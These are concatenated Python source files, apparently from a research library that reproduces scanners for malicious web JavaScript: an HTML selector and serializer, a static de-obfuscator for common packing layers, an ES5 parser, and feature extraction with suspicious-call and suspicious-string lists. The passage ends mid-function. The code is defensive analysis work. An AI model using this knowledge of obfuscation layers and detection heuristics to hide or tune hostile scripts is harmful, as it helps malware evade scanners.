* ``tag.class`` / ``tag#id`` — combined
* ``tag[attr]`` / ``tag[attr=value]`` — attribute presence/equality
* ``ancestor descendant`` — descendant combinator (single space)
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from .dom import Element

__all__ = ["select", "select_one", "matches"]


@dataclass(frozen=True)
class _SimpleSelector:
    tag: Optional[str] = None
    element_id: Optional[str] = None
    class_name: Optional[str] = None
    attr_name: Optional[str] = None
    attr_value: Optional[str] = None


def _parse_simple(selector: str) -> _SimpleSelector:
    tag = element_id = class_name = attr_name = attr_value = None
    rest = selector.strip()

    if "[" in rest:
        rest, _, attr_part = rest.partition("[")
        attr_part = attr_part.rstrip("]")
        if "=" in attr_part:
            attr_name, _, attr_value = attr_part.partition("=")
            attr_value = attr_value.strip("\"'")
        else:
            attr_name = attr_part
        attr_name = attr_name.strip().lower()

    if "#" in rest:
        rest, _, element_id = rest.partition("#")
    elif "." in rest:
        rest, _, class_name = rest.partition(".")

    if rest:
        tag = rest.lower()
    return _SimpleSelector(tag, element_id, class_name, attr_name, attr_value)


def matches(element: Element, selector: str) -> bool:
    """True when ``element`` matches a simple (non-combinator) selector."""
    simple = _parse_simple(selector)
    if simple.tag and element.tag != simple.tag:
        return False
    if simple.element_id and element.id != simple.element_id:
        return False
    if simple.class_name and simple.class_name not in element.classes:
        return False
    if simple.attr_name:
        if not element.has_attr(simple.attr_name):
            return False
        if simple.attr_value is not None and element.get(simple.attr_name) != simple.attr_value:
            return False
    return True


def select(root: Element, selector: str) -> List[Element]:
    """All descendants of ``root`` (and root itself) matching ``selector``."""
    parts = selector.split()
    if not parts:
        return []
    candidates = [el for el in root.iter() if matches(el, parts[0])]
    for part in parts[1:]:
        next_candidates: List[Element] = []
        seen = set()
        for candidate in candidates:
            for el in candidate.iter():
                if el is candidate:
                    continue
                if matches(el, part) and id(el) not in seen:
                    seen.add(id(el))
                    next_candidates.append(el)
        candidates = next_candidates
    return candidates


def select_one(root: Element, selector: str) -> Optional[Element]:
    """First match of ``selector`` under ``root``, or ``None``."""
    results = select(root, selector)
    return results[0] if results else None
