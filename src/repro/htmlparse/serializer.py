"""DOM-to-HTML serialization.

Round-trips the trees our parser builds; used by the crawler's
cloaking-mitigation downloader (which stores rendered pages to disk
before submitting them to the scanners, Section III footnote 1) and by
the JS host environment's ``innerHTML`` getter.
"""

from __future__ import annotations

from typing import List

from .dom import Comment, Document, Element, Node, Text
from .parser import VOID_ELEMENTS
from .tokenizer import RAW_TEXT_ELEMENTS

__all__ = ["serialize", "serialize_children", "escape_text", "escape_attr"]

_TEXT_ESCAPES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
_ATTR_ESCAPES = {"&": "&amp;", '"': "&quot;", "<": "&lt;"}


def escape_text(text: str) -> str:
    for char, entity in _TEXT_ESCAPES.items():
        text = text.replace(char, entity)
    return text


def escape_attr(text: str) -> str:
    for char, entity in _ATTR_ESCAPES.items():
        text = text.replace(char, entity)
    return text


def serialize(node: Node) -> str:
    """Serialize a node (and its subtree) back to HTML text."""
    parts: List[str] = []
    _serialize_into(node, parts)
    return "".join(parts)


def serialize_children(element: Element) -> str:
    """Serialize only the children of ``element`` (innerHTML semantics)."""
    parts: List[str] = []
    for child in element.children:
        _serialize_into(child, parts)
    return "".join(parts)


def _serialize_into(node: Node, parts: List[str]) -> None:
    if isinstance(node, Document):
        parts.append("<!DOCTYPE html>")
        for child in node.children:
            _serialize_into(child, parts)
        return
    if isinstance(node, Text):
        parent = node.parent
        if parent is not None and parent.tag in RAW_TEXT_ELEMENTS:
            parts.append(node.data)
        else:
            parts.append(escape_text(node.data))
        return
    if isinstance(node, Comment):
        parts.append("<!--%s-->" % node.data)
        return
    if isinstance(node, Element):
        parts.append("<" + node.tag)
        for name, value in node.attrs.items():
            if value == "":
                parts.append(" " + name)
            else:
                parts.append(' %s="%s"' % (name, escape_attr(value)))
        parts.append(">")
        if node.tag in VOID_ELEMENTS:
            return
        for child in node.children:
            _serialize_into(child, parts)
        parts.append("</%s>" % node.tag)
