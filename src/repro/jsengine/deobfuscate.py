"""Static de-obfuscation passes for JavaScript.

Quttera-style scanners must see through the obfuscation layers malware
uses to "hamper static code analysis" (Section III-B).  This module
implements the common literal-level layers without executing code:

* ``unescape('%69%66...')`` / ``decodeURIComponent`` literals,
* ``String.fromCharCode(105, 102, ...)`` chains,
* ``atob('aWZyYW1l...')`` literals,
* string concatenation of literals (``'ifr' + 'ame'``),
* reversed-string idiom (``'...'.split('').reverse().join('')``),
* hex-escape-heavy strings (``"\\x69\\x66..."`` is already decoded by
  the lexer; re-decoding exposes double-encoded payloads).

:func:`deobfuscate` iterates the passes to a fixed point and returns the
fully peeled source together with the number of layers removed — the
layer count itself is a strong maliciousness signal.
"""

from __future__ import annotations

import base64
import binascii
import re
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from .builtins import js_unescape

__all__ = [
    "DeobfuscationResult", "PURE_DECODERS", "DECODER_NAMES", "deobfuscate",
    "decode_literals", "looks_obfuscated",
]


def _decode_base64(text: str) -> Optional[str]:
    """``atob`` semantics over latin-1, tolerant of missing padding."""
    try:
        return base64.b64decode(text + "=" * (-len(text) % 4)).decode("latin-1")
    except (binascii.Error, ValueError):
        return None


#: pure single-string decoders shared by every static layer: the regex
#: peeler below, the AST constant folder
#: (:func:`repro.staticjs.dataflow.fold`) and the abstract machine
#: (:mod:`repro.staticjs.absint`) must decode identically, or their
#: recovered payloads would disagree with the sandbox.  A decoder
#: returns ``None`` when the input is not decodable (the call site
#: keeps the original expression).
PURE_DECODERS: Dict[str, Callable[[str], Optional[str]]] = {
    "unescape": js_unescape,
    "decodeURIComponent": js_unescape,
    "decodeURI": js_unescape,
    "atob": _decode_base64,
}

#: decoder vocabulary for work accounting / reporting; includes the
#: multi-argument decoder the table above cannot express
DECODER_NAMES = frozenset(PURE_DECODERS) | {"String.fromCharCode"}

_UNESCAPE_CALL = re.compile(
    r"""(?:window\.)?(unescape|decodeURIComponent|decodeURI)\(\s*(['"])((?:[^'"\\]|\\.)*)\2\s*\)"""
)
_FROMCHARCODE_CALL = re.compile(
    r"""String\.fromCharCode\(\s*([0-9,\s]+)\)"""
)
_ATOB_CALL = re.compile(
    r"""(?:window\.)?atob\(\s*(['"])([A-Za-z0-9+/=]+)\1\s*\)"""
)
_STRING_LITERAL = r"""(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')"""
_CONCAT = re.compile(r"(%s)\s*\+\s*(%s)" % (_STRING_LITERAL, _STRING_LITERAL))
_EVAL_STRING = re.compile(r"eval\(\s*(%s)\s*\)" % _STRING_LITERAL)
_REVERSE_IDIOM = re.compile(
    r"(%s)\.split\(\s*(?:''|\"\")\s*\)\.reverse\(\)\.join\(\s*(?:''|\"\")\s*\)" % _STRING_LITERAL
)
_PERCENT_RUN = re.compile(r"(?:%[0-9a-fA-F]{2}){4,}")


@dataclass
class DeobfuscationResult:
    """Outcome of static de-obfuscation."""

    source: str
    layers: int
    decoded_strings: List[str]

    @property
    def was_obfuscated(self) -> bool:
        return self.layers > 0


def _quote(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return '"%s"' % escaped


def _pass_unescape(source: str, decoded: List[str]) -> str:
    def repl(match: "re.Match[str]") -> str:
        payload = PURE_DECODERS[match.group(1)](match.group(3))
        if payload is None:
            return match.group(0)
        decoded.append(payload)
        return _quote(payload)

    return _UNESCAPE_CALL.sub(repl, source)


def _pass_fromcharcode(source: str, decoded: List[str]) -> str:
    def repl(match: "re.Match[str]") -> str:
        codes = [int(c) for c in match.group(1).replace(" ", "").split(",") if c]
        payload = "".join(chr(c & 0xFFFF) for c in codes)
        decoded.append(payload)
        return _quote(payload)

    return _FROMCHARCODE_CALL.sub(repl, source)


def _pass_atob(source: str, decoded: List[str]) -> str:
    def repl(match: "re.Match[str]") -> str:
        payload = PURE_DECODERS["atob"](match.group(2))
        if payload is None:
            return match.group(0)
        decoded.append(payload)
        return _quote(payload)

    return _ATOB_CALL.sub(repl, source)


def _unescape_js_literal(text: str) -> str:
    out: List[str] = []
    i = 0
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text):
            nxt = text[i + 1]
            if nxt == "x" and i + 4 <= len(text):
                try:
                    out.append(chr(int(text[i + 2 : i + 4], 16)))
                    i += 4
                    continue
                except ValueError:
                    pass
            if nxt == "u" and i + 6 <= len(text):
                try:
                    out.append(chr(int(text[i + 2 : i + 6], 16)))
                    i += 6
                    continue
                except ValueError:
                    pass
            mapped = {"n": "\n", "t": "\t", "r": "\r", "'": "'", '"': '"', "\\": "\\"}.get(nxt)
            out.append(mapped if mapped is not None else nxt)
            i += 2
            continue
        out.append(text[i])
        i += 1
    return "".join(out)


def _strip_literal(literal: str) -> str:
    return _unescape_js_literal(literal[1:-1])


def _pass_concat(source: str) -> str:
    previous = None
    while previous != source:
        previous = source

        def repl(match: "re.Match[str]") -> str:
            return _quote(_strip_literal(match.group(1)) + _strip_literal(match.group(2)))

        source = _CONCAT.sub(repl, source, count=1)
    return source


def _pass_eval_unwrap(source: str, decoded: List[str]) -> str:
    """Unwrap ``eval("<code>")`` — the outer shell every packer leaves."""

    def repl(match: "re.Match[str]") -> str:
        code = _strip_literal(match.group(1))
        decoded.append(code)
        return code

    return _EVAL_STRING.sub(repl, source)


_VAR_STRING = re.compile(r"var\s+([A-Za-z_$][\w$]*)\s*=\s*(%s)\s*;" % _STRING_LITERAL)
_VAR_ARRAY = re.compile(
    r"var\s+([A-Za-z_$][\w$]*)\s*=\s*\[((?:\s*%s\s*,?)*)\]\s*;" % _STRING_LITERAL
)
_LITERAL_FINDER = re.compile(_STRING_LITERAL)


def _pass_var_eval(source: str, decoded: List[str]) -> str:
    """Propagate single-assignment string variables into ``eval(name)``.

    Handles the two stash-then-eval idioms packers use::

        var _0x1 = "code...";        eval(_0x1);
        var _a12 = ["co", "de"];     eval(_a12.join(''));
    """
    for match in _VAR_STRING.finditer(source):
        name, literal = match.group(1), match.group(2)
        eval_call = re.compile(r"eval\(\s*%s\s*\)" % re.escape(name))
        if eval_call.search(source):
            code = _strip_literal(literal)
            decoded.append(code)
            source = source.replace(match.group(0), "", 1)
            source = eval_call.sub(lambda _m: code, source, count=1)
            return source
    for match in _VAR_ARRAY.finditer(source):
        name, body = match.group(1), match.group(2)
        eval_call = re.compile(
            r"eval\(\s*%s\.join\(\s*(?:''|\"\")\s*\)\s*\)" % re.escape(name)
        )
        if eval_call.search(source):
            code = "".join(_strip_literal(lit.group(0)) for lit in _LITERAL_FINDER.finditer(body))
            decoded.append(code)
            source = source.replace(match.group(0), "", 1)
            source = eval_call.sub(lambda _m: code, source, count=1)
            return source
    return source


def _pass_reverse(source: str, decoded: List[str]) -> str:
    def repl(match: "re.Match[str]") -> str:
        payload = _strip_literal(match.group(1))[::-1]
        decoded.append(payload)
        return _quote(payload)

    return _REVERSE_IDIOM.sub(repl, source)


def decode_literals(source: str) -> Tuple[str, List[str]]:
    """Run one round of all literal-decoding passes."""
    decoded: List[str] = []
    source = _pass_concat(source)
    source = _pass_unescape(source, decoded)
    source = _pass_fromcharcode(source, decoded)
    source = _pass_atob(source, decoded)
    source = _pass_reverse(source, decoded)
    source = _pass_var_eval(source, decoded)
    source = _pass_eval_unwrap(source, decoded)
    return source, decoded


def deobfuscate(source: str, max_layers: int = 8) -> DeobfuscationResult:
    """Iterate literal decoding to a fixed point (bounded)."""
    layers = 0
    all_decoded: List[str] = []
    for _ in range(max_layers):
        new_source, decoded = decode_literals(source)
        # ``document.write(eval-like)`` unwrap: if the whole decoded payload
        # is itself script-looking text inside a lone string statement,
        # surface it for the next round.
        if new_source == source and not decoded:
            break
        if decoded:
            layers += 1
        all_decoded.extend(decoded)
        source = new_source
    return DeobfuscationResult(source=source, layers=layers, decoded_strings=all_decoded)


def looks_obfuscated(source: str) -> bool:
    """Cheap syntactic test for obfuscation (pre-filter for scanners)."""
    if len(source) < 40:
        return False
    if _PERCENT_RUN.search(source):
        return True
    if "fromCharCode" in source and source.count(",") > 15:
        return True
    if "unescape" in source or "atob(" in source:
        return True
    hex_escapes = source.count("\\x")
    if hex_escapes >= 8:
        return True
    # high symbol density / very long lines are typical of packed code
    longest_line = max((len(line) for line in source.splitlines()), default=0)
    if longest_line > 600 and source.count(" ") / max(longest_line, 1) < 0.05:
        return True
    return False
