"""Recursive-descent JavaScript parser producing the :mod:`nodes` AST.

Covers ES5 statements and expressions except regular-expression
literals, labels, ``with``, and getters/setters — none of which appear
in the malware corpus this library generates and analyzes.
"""

from __future__ import annotations

from typing import Any, List, Optional, Tuple

from . import nodes as N
from .lexer import Token, tokenize

__all__ = ["parse", "parse_tokens", "ParseError"]


class ParseError(SyntaxError):
    """Raised when the source cannot be parsed."""

    def __init__(self, message: str, token: Token) -> None:
        super().__init__("%s (got %s %r at offset %d)" % (message, token.kind, token.value, token.position))
        self.token = token


def parse(source: str, observer: Optional[Any] = None) -> N.Program:
    """Parse ``source`` into a :class:`~repro.jsengine.nodes.Program`.

    When an observer is supplied, the lexed token count is charged to
    the work profiler as one batched ``js.tokens`` amount (the lexer
    itself stays uninstrumented — per-token hooks would dominate it).
    """
    tokens = tokenize(source)
    if observer is not None:
        observer.work("js.tokens", len(tokens))
    return parse_tokens(tokens)


def parse_tokens(tokens: List[Token]) -> N.Program:
    """Parse an already-lexed token stream (no work charging).

    Split out from :func:`parse` so the
    :class:`~repro.jsengine.compilecache.CompileCache` can keep the
    token count when ``parse_program`` raises — the serial path charges
    ``js.tokens`` whenever lexing succeeded, even for parse errors, and
    cached replays must reproduce that accounting exactly.
    """
    return _Parser(tokens).parse_program()


_ASSIGN_OPS = {"=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>=", ">>>="}

_BINARY_PRECEDENCE = {
    "|": 5, "^": 6, "&": 7,
    "==": 8, "!=": 8, "===": 8, "!==": 8,
    "<": 9, ">": 9, "<=": 9, ">=": 9, "instanceof": 9, "in": 9,
    "<<": 10, ">>": 10, ">>>": 10,
    "+": 11, "-": 11,
    "*": 12, "/": 12, "%": 12,
}


class _Parser:
    def __init__(self, tokens: List[Token]) -> None:
        self._tokens = tokens
        self._pos = 0

    # -- token helpers ----------------------------------------------------
    @property
    def _cur(self) -> Token:
        return self._tokens[self._pos]

    def _advance(self) -> Token:
        token = self._cur
        if token.kind != "eof":
            self._pos += 1
        return token

    def _expect_punct(self, value: str) -> Token:
        if not self._cur.is_punct(value):
            raise ParseError("expected %r" % value, self._cur)
        return self._advance()

    def _expect_identifier(self) -> str:
        if self._cur.kind != "identifier":
            raise ParseError("expected identifier", self._cur)
        return self._advance().value

    def _eat_punct(self, value: str) -> bool:
        if self._cur.is_punct(value):
            self._advance()
            return True
        return False

    def _eat_semicolon(self) -> None:
        # automatic semicolon insertion, permissive form
        self._eat_punct(";")

    # -- program / statements ---------------------------------------------
    def parse_program(self) -> N.Program:
        body: List[N.Node] = []
        while self._cur.kind != "eof":
            body.append(self._statement())
        return N.Program(body)

    def _statement(self) -> N.Node:
        token = self._cur
        if token.is_punct("{"):
            return self._block()
        if token.is_punct(";"):
            self._advance()
            return N.EmptyStatement()
        if token.kind == "keyword":
            handler = {
                "var": self._var_statement,
                "function": self._function_declaration,
                "if": self._if_statement,
                "while": self._while_statement,
                "do": self._do_while_statement,
                "for": self._for_statement,
                "return": self._return_statement,
                "break": self._break_statement,
                "continue": self._continue_statement,
                "throw": self._throw_statement,
                "try": self._try_statement,
                "switch": self._switch_statement,
            }.get(token.value)
            if handler is not None:
                return handler()
        expr = self._expression()
        self._eat_semicolon()
        return N.ExpressionStatement(expr)

    def _block(self) -> N.Block:
        self._expect_punct("{")
        body: List[N.Node] = []
        while not self._cur.is_punct("}"):
            if self._cur.kind == "eof":
                raise ParseError("unterminated block", self._cur)
            body.append(self._statement())
        self._advance()
        return N.Block(body)

    def _var_statement(self) -> N.VarDecl:
        self._advance()  # var
        decl = self._var_declarations()
        self._eat_semicolon()
        return decl

    def _var_declarations(self) -> N.VarDecl:
        declarations: List[Tuple[str, Optional[N.Node]]] = []
        while True:
            name = self._expect_identifier()
            init: Optional[N.Node] = None
            if self._eat_punct("="):
                init = self._assignment_expression()
            declarations.append((name, init))
            if not self._eat_punct(","):
                break
        return N.VarDecl(declarations)

    def _function_declaration(self) -> N.FunctionDecl:
        self._advance()  # function
        name = self._expect_identifier()
        params, body = self._function_rest()
        return N.FunctionDecl(name, params, body)

    def _function_rest(self) -> Tuple[List[str], List[N.Node]]:
        self._expect_punct("(")
        params: List[str] = []
        while not self._cur.is_punct(")"):
            params.append(self._expect_identifier())
            if not self._eat_punct(","):
                break
        self._expect_punct(")")
        block = self._block()
        return params, block.body

    def _if_statement(self) -> N.If:
        self._advance()
        self._expect_punct("(")
        test = self._expression()
        self._expect_punct(")")
        consequent = self._statement()
        alternate = None
        if self._cur.is_keyword("else"):
            self._advance()
            alternate = self._statement()
        return N.If(test, consequent, alternate)

    def _while_statement(self) -> N.While:
        self._advance()
        self._expect_punct("(")
        test = self._expression()
        self._expect_punct(")")
        return N.While(test, self._statement())

    def _do_while_statement(self) -> N.DoWhile:
        self._advance()
        body = self._statement()
        if not self._cur.is_keyword("while"):
            raise ParseError("expected 'while'", self._cur)
        self._advance()
        self._expect_punct("(")
        test = self._expression()
        self._expect_punct(")")
        self._eat_semicolon()
        return N.DoWhile(body, test)

    def _for_statement(self) -> N.Node:
        self._advance()
        self._expect_punct("(")
        init: Optional[N.Node] = None
        declare = False
        if self._cur.is_keyword("var"):
            self._advance()
            declare = True
            # might be for-in with a single declaration
            name = self._expect_identifier()
            if self._cur.is_keyword("in"):
                self._advance()
                obj = self._expression()
                self._expect_punct(")")
                return N.ForIn(name, True, obj, self._statement())
            declarations: List[Tuple[str, Optional[N.Node]]] = [(name, None)]
            if self._eat_punct("="):
                declarations[0] = (name, self._assignment_expression())
            while self._eat_punct(","):
                extra = self._expect_identifier()
                extra_init = self._assignment_expression() if self._eat_punct("=") else None
                declarations.append((extra, extra_init))
            init = N.VarDecl(declarations)
        elif not self._cur.is_punct(";"):
            first = self._expression(no_in=True)
            if self._cur.is_keyword("in"):
                if not isinstance(first, N.Identifier):
                    raise ParseError("bad for-in target", self._cur)
                self._advance()
                obj = self._expression()
                self._expect_punct(")")
                return N.ForIn(first.name, False, obj, self._statement())
            init = N.ExpressionStatement(first)
        self._expect_punct(";")
        test = None if self._cur.is_punct(";") else self._expression()
        self._expect_punct(";")
        update = None if self._cur.is_punct(")") else self._expression()
        self._expect_punct(")")
        _ = declare
        return N.For(init, test, update, self._statement())

    def _return_statement(self) -> N.Return:
        self._advance()
        if self._cur.is_punct(";") or self._cur.is_punct("}") or self._cur.kind == "eof":
            self._eat_semicolon()
            return N.Return(None)
        argument = self._expression()
        self._eat_semicolon()
        return N.Return(argument)

    def _break_statement(self) -> N.Break:
        self._advance()
        self._eat_semicolon()
        return N.Break()

    def _continue_statement(self) -> N.Continue:
        self._advance()
        self._eat_semicolon()
        return N.Continue()

    def _throw_statement(self) -> N.Throw:
        self._advance()
        argument = self._expression()
        self._eat_semicolon()
        return N.Throw(argument)

    def _try_statement(self) -> N.Try:
        self._advance()
        block = self._block()
        catch_param = None
        catch_block = None
        finally_block = None
        if self._cur.is_keyword("catch"):
            self._advance()
            self._expect_punct("(")
            catch_param = self._expect_identifier()
            self._expect_punct(")")
            catch_block = self._block()
        if self._cur.is_keyword("finally"):
            self._advance()
            finally_block = self._block()
        if catch_block is None and finally_block is None:
            raise ParseError("try without catch/finally", self._cur)
        return N.Try(block, catch_param, catch_block, finally_block)

    def _switch_statement(self) -> N.Switch:
        self._advance()
        self._expect_punct("(")
        discriminant = self._expression()
        self._expect_punct(")")
        self._expect_punct("{")
        cases: List[N.SwitchCase] = []
        while not self._cur.is_punct("}"):
            if self._cur.is_keyword("case"):
                self._advance()
                test = self._expression()
                self._expect_punct(":")
                cases.append(N.SwitchCase(test))
            elif self._cur.is_keyword("default"):
                self._advance()
                self._expect_punct(":")
                cases.append(N.SwitchCase(None))
            else:
                if not cases:
                    raise ParseError("statement outside case", self._cur)
                cases[-1].body.append(self._statement())
        self._advance()
        return N.Switch(discriminant, cases)

    # -- expressions --------------------------------------------------------
    def _expression(self, no_in: bool = False) -> N.Node:
        expr = self._assignment_expression(no_in=no_in)
        if self._cur.is_punct(","):
            expressions = [expr]
            while self._eat_punct(","):
                expressions.append(self._assignment_expression(no_in=no_in))
            return N.Sequence(expressions)
        return expr

    def _assignment_expression(self, no_in: bool = False) -> N.Node:
        left = self._conditional_expression(no_in=no_in)
        if self._cur.kind == "punct" and self._cur.value in _ASSIGN_OPS:
            if not isinstance(left, (N.Identifier, N.Member)):
                raise ParseError("invalid assignment target", self._cur)
            operator = self._advance().value
            value = self._assignment_expression(no_in=no_in)
            return N.Assignment(operator, left, value)
        return left

    def _conditional_expression(self, no_in: bool = False) -> N.Node:
        test = self._binary_expression(0, no_in=no_in)
        if self._eat_punct("?"):
            consequent = self._assignment_expression()
            self._expect_punct(":")
            alternate = self._assignment_expression(no_in=no_in)
            return N.Conditional(test, consequent, alternate)
        return test

    def _binary_expression(self, min_precedence: int, no_in: bool = False) -> N.Node:
        left = self._unary_expression()
        while True:
            token = self._cur
            operator = None
            if token.kind == "punct" and token.value in _BINARY_PRECEDENCE:
                operator = token.value
            elif token.is_keyword("instanceof"):
                operator = "instanceof"
            elif token.is_keyword("in") and not no_in:
                operator = "in"
            elif token.is_punct("&&") or token.is_punct("||"):
                operator = token.value
            if operator is None:
                return left
            if operator in ("&&", "||"):
                precedence = 3 if operator == "||" else 4
            else:
                precedence = _BINARY_PRECEDENCE[operator]
            if precedence < min_precedence:
                return left
            self._advance()
            right = self._binary_expression(precedence + 1, no_in=no_in)
            if operator in ("&&", "||"):
                left = N.Logical(operator, left, right)
            else:
                left = N.Binary(operator, left, right)

    def _unary_expression(self) -> N.Node:
        token = self._cur
        if token.kind == "punct" and token.value in ("!", "~", "+", "-"):
            self._advance()
            return N.Unary(token.value, self._unary_expression())
        if token.is_keyword("typeof", "delete", "void"):
            self._advance()
            return N.Unary(token.value, self._unary_expression())
        if token.is_punct("++") or token.is_punct("--"):
            self._advance()
            return N.Update(token.value, self._unary_expression(), prefix=True)
        return self._postfix_expression()

    def _postfix_expression(self) -> N.Node:
        expr = self._call_expression()
        if self._cur.is_punct("++") or self._cur.is_punct("--"):
            operator = self._advance().value
            return N.Update(operator, expr, prefix=False)
        return expr

    def _call_expression(self) -> N.Node:
        if self._cur.is_keyword("new"):
            self._advance()
            callee = self._member_chain(self._primary_expression(), allow_call=False)
            arguments: List[N.Node] = []
            if self._cur.is_punct("("):
                arguments = self._arguments()
            return self._member_chain(N.New(callee, arguments), allow_call=True)
        return self._member_chain(self._primary_expression(), allow_call=True)

    def _member_chain(self, expr: N.Node, allow_call: bool) -> N.Node:
        while True:
            if self._cur.is_punct("."):
                self._advance()
                token = self._cur
                if token.kind not in ("identifier", "keyword"):
                    raise ParseError("expected property name", token)
                self._advance()
                expr = N.Member(expr, N.StringLiteral(token.value), computed=False)
            elif self._cur.is_punct("["):
                self._advance()
                prop = self._expression()
                self._expect_punct("]")
                expr = N.Member(expr, prop, computed=True)
            elif allow_call and self._cur.is_punct("("):
                expr = N.Call(expr, self._arguments())
            else:
                return expr

    def _arguments(self) -> List[N.Node]:
        self._expect_punct("(")
        arguments: List[N.Node] = []
        while not self._cur.is_punct(")"):
            arguments.append(self._assignment_expression())
            if not self._eat_punct(","):
                break
        self._expect_punct(")")
        return arguments

    def _primary_expression(self) -> N.Node:
        token = self._cur
        if token.kind == "number":
            self._advance()
            return N.NumberLiteral(token.number)
        if token.kind == "string":
            self._advance()
            return N.StringLiteral(token.value)
        if token.kind == "identifier":
            self._advance()
            return N.Identifier(token.value)
        if token.kind == "keyword":
            if token.value == "true":
                self._advance()
                return N.BooleanLiteral(True)
            if token.value == "false":
                self._advance()
                return N.BooleanLiteral(False)
            if token.value == "null":
                self._advance()
                return N.NullLiteral()
            if token.value == "undefined":
                self._advance()
                return N.UndefinedLiteral()
            if token.value == "this":
                self._advance()
                return N.ThisExpr()
            if token.value == "function":
                self._advance()
                name = None
                if self._cur.kind == "identifier":
                    name = self._advance().value
                params, body = self._function_rest()
                return N.FunctionExpr(name, params, body)
            if token.value == "new":
                return self._call_expression()
        if token.is_punct("("):
            self._advance()
            expr = self._expression()
            self._expect_punct(")")
            return expr
        if token.is_punct("["):
            self._advance()
            elements: List[N.Node] = []
            while not self._cur.is_punct("]"):
                elements.append(self._assignment_expression())
                if not self._eat_punct(","):
                    break
            self._expect_punct("]")
            return N.ArrayLiteral(elements)
        if token.is_punct("{"):
            self._advance()
            properties: List[Tuple[str, N.Node]] = []
            while not self._cur.is_punct("}"):
                key_token = self._cur
                if key_token.kind in ("identifier", "string", "keyword"):
                    key = key_token.value
                elif key_token.kind == "number":
                    key = key_token.value
                else:
                    raise ParseError("bad object key", key_token)
                self._advance()
                self._expect_punct(":")
                properties.append((key, self._assignment_expression()))
                if not self._eat_punct(","):
                    break
            self._expect_punct("}")
            return N.ObjectLiteral(properties)
        raise ParseError("unexpected token", token)
