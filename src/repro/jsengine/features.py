"""Static feature extraction from JavaScript (Zozzle-style).

Zozzle (USENIX Security 2011, cited as [32] in the paper) classifies
JavaScript with features drawn from the syntax tree.  One of our
simulated VirusTotal engines is such a classifier; this module computes
the features it consumes, from either the AST (when the sample parses)
or the raw text (fallback, mirroring real engines' behaviour on
syntactically broken samples).
"""

from __future__ import annotations

import math
from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, List

from . import nodes as N
from .parser import ParseError, parse
from .lexer import LexError

__all__ = ["JsFeatures", "extract_features"]

_SUSPICIOUS_CALLEES = (
    "eval", "unescape", "fromCharCode", "atob", "setTimeout",
    "decodeURIComponent", "write", "createElement", "appendChild",
)

_SUSPICIOUS_STRINGS = (
    "iframe", ".exe", "ActiveXObject", "shellcode", "%u", "\\x",
    "document.write", "location.href", "window.location",
)


@dataclass
class JsFeatures:
    """Bag of static features for one script."""

    length: int = 0
    parse_ok: bool = False
    string_count: int = 0
    max_string_length: int = 0
    total_string_length: int = 0
    string_entropy: float = 0.0
    hex_ratio: float = 0.0
    call_counts: Dict[str, int] = field(default_factory=dict)
    suspicious_string_hits: Dict[str, int] = field(default_factory=dict)
    function_count: int = 0
    loop_count: int = 0
    eval_count: int = 0
    document_write_count: int = 0
    fromcharcode_count: int = 0
    unescape_count: int = 0
    iframe_string_count: int = 0
    long_number_array: bool = False

    @property
    def obfuscation_score(self) -> float:
        """Heuristic score in [0, 1]; higher means more obfuscated."""
        score = 0.0
        if self.string_entropy > 4.2:
            score += 0.25
        if self.max_string_length > 300:
            score += 0.2
        if self.hex_ratio > 0.05:
            score += 0.2
        score += min(0.1 * (self.eval_count + self.unescape_count + self.fromcharcode_count), 0.3)
        if self.long_number_array:
            score += 0.15
        return min(score, 1.0)

    @property
    def injection_score(self) -> float:
        """Heuristic score for DOM-injection behaviour."""
        score = 0.0
        score += min(0.25 * self.document_write_count, 0.5)
        score += min(0.2 * self.iframe_string_count, 0.4)
        score += min(0.1 * self.call_counts.get("createElement", 0), 0.2)
        score += min(0.1 * self.call_counts.get("appendChild", 0), 0.2)
        return min(score, 1.0)


def _entropy(text: str) -> float:
    if not text:
        return 0.0
    counts = Counter(text)
    total = len(text)
    return -sum((c / total) * math.log2(c / total) for c in counts.values())


def extract_features(source: str) -> JsFeatures:
    """Compute :class:`JsFeatures` for ``source``."""
    features = JsFeatures(length=len(source))

    strings: List[str] = []
    try:
        program = parse(source)
        features.parse_ok = True
        _walk_ast(program, features, strings)
    except (ParseError, LexError, RecursionError):
        features.parse_ok = False
        _scan_text(source, features, strings)

    features.string_count = len(strings)
    if strings:
        features.max_string_length = max(len(s) for s in strings)
        features.total_string_length = sum(len(s) for s in strings)
        features.string_entropy = _entropy("".join(strings))
    hex_chars = source.count("\\x") * 4 + source.count("%u") * 6
    features.hex_ratio = hex_chars / max(len(source), 1)

    lowered = source.lower()
    for needle in _SUSPICIOUS_STRINGS:
        hits = lowered.count(needle.lower())
        if hits:
            features.suspicious_string_hits[needle] = hits
    features.iframe_string_count = sum(s.lower().count("iframe") for s in strings)
    features.iframe_string_count += lowered.count("<iframe") if not features.parse_ok else 0
    return features


def _walk_ast(program: N.Program, features: JsFeatures, strings: List[str]) -> None:
    for node in program.walk():
        if isinstance(node, N.StringLiteral):
            strings.append(node.value)
        elif isinstance(node, (N.FunctionDecl, N.FunctionExpr)):
            features.function_count += 1
        elif isinstance(node, (N.While, N.DoWhile, N.For, N.ForIn)):
            features.loop_count += 1
        elif isinstance(node, N.ArrayLiteral):
            if len(node.elements) > 40 and all(
                isinstance(el, N.NumberLiteral) for el in node.elements
            ):
                features.long_number_array = True
        elif isinstance(node, N.Call):
            name = _callee_name(node.callee)
            if name:
                for suspicious in _SUSPICIOUS_CALLEES:
                    if name == suspicious or name.endswith("." + suspicious):
                        features.call_counts[suspicious] = features.call_counts.get(suspicious, 0) + 1
                if name == "eval" or name.endswith(".eval"):
                    features.eval_count += 1
                if name.endswith("write") or name.endswith("writeln"):
                    features.document_write_count += 1
                if name.endswith("fromCharCode"):
                    features.fromcharcode_count += 1
                if name == "unescape" or name.endswith(".unescape"):
                    features.unescape_count += 1


def _callee_name(callee: N.Node) -> str:
    if isinstance(callee, N.Identifier):
        return callee.name
    if isinstance(callee, N.Member) and isinstance(callee.prop, N.StringLiteral):
        base = _callee_name(callee.obj)
        return (base + "." if base else "") + callee.prop.value
    return ""


def _scan_text(source: str, features: JsFeatures, strings: List[str]) -> None:
